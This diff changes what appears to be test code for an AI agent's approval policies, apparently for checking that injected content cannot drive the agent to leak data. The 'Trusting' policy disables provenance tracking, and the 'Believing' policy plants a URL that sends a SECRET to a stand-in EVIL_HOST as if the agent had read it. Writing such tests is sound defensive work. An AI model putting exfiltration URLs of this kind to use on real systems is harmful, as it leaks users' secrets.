@@ -15,7 +15,7 @@ from typing import Final
 from agent.admission_terms import Authority
 from agent.context import Persona
 from agent.memory.audience import Audience, Place, label
-from agent.messages import JsonObject, Keep, Message, Provenance, Role
+from agent.messages import JsonObject, Keep, Message, Role
 from agent.ports import Asker, Knowledge, Memories, Tool, ToolContext, ToolEffect, ToolOutput
 from agent.progress import Progress
 from agent.providers.scripted import ScriptedProvider
@@ -171,10 +171,11 @@ class Trusting(ApprovalPolicy):
         tools: Registry,
         limits: TurnLimits,
         progress: Progress,
-        words: Callable[[], Provenance],  # noqa: ARG002 -- that is what is switched off
-        texts: Callable[[], Sequence[str]] = tuple,
+        words: Callable[[], TurnWords],
     ) -> tuple[Turn, CallGate]:
-        return await super().turn(claim, asker, tools, limits, progress, lambda: Provenance.OWN, texts)
+        turn, gate = await super().turn(claim, asker, tools, limits, progress, words)
+        trusting = TrustingGate(**{field.name: getattr(gate, field.name) for field in fields(gate)})
+        return Turn(trusting.check, tools.repeatable, limits, turn.progress, trusting.needs_consent), trusting
 
 
 class Believing(ApprovalPolicy):
@@ -187,11 +188,12 @@ class Believing(ApprovalPolicy):
         tools: Registry,
         limits: TurnLimits,
         progress: Progress,
-        words: Callable[[], Provenance],
-        texts: Callable[[], Sequence[str]] = tuple,
+        words: Callable[[], TurnWords],
     ) -> tuple[Turn, CallGate]:
-        read = [f"http://{EVIL_HOST}/?q={SECRET}"]
-        return await super().turn(claim, asker, tools, limits, progress, words, lambda: [*read, *texts()])
+        def believed() -> TurnWords:
+            return replace(words(), read=[f"http://{EVIL_HOST}/?q={SECRET}", *words().read])
+
+        return await super().turn(claim, asker, tools, limits, progress, believed)
 
 
 @dataclass
